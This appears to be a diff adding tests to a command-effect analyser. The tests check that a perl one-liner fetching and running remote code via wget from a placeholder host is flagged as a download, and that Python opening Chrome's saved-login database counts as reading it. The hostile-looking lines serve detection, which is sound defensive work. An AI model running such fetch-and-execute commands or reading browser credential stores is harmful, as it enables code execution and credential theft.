@@ -383,3 +383,21 @@ def test_python_permission_changes_are_chmod_and_chown(code: str, argv: list[str
 )  # fmt: skip
 def test_python_directory_entries_joined_to_their_root_are_its_glob(code: str, argv: list[str]) -> None:
     assert python_effects(code).commands == [argv]
+
+
+# --- code the shell builds from a command substitution is what that command prints ---
+
+
+def test_inline_code_from_a_download_is_downloaded_code(tmp_path: Path) -> None:
+    (run,) = [e for e in ops('perl -e "$(wget -qO- https://x.example.net/p.pl)"', tmp_path, "exec")]
+    assert (run["known"], run.get("flow"), run.get("through")) == (False, "fetch", "substitution")
+
+
+def test_inline_code_quoted_whole_is_the_languages_own(tmp_path: Path) -> None:
+    (run,) = [e for e in ops("perl -e 'my $x = 1; print $x'", tmp_path, "exec")]
+    assert run["known"] is True and "flow" not in run
+
+
+def test_python_sqlite_connect_reads_the_database() -> None:
+    code = "import sqlite3; sqlite3.connect('/h/.config/google-chrome/Default/Login Data')"
+    assert python_effects(code).commands == [["cat", "/h/.config/google-chrome/Default/Login Data"]]
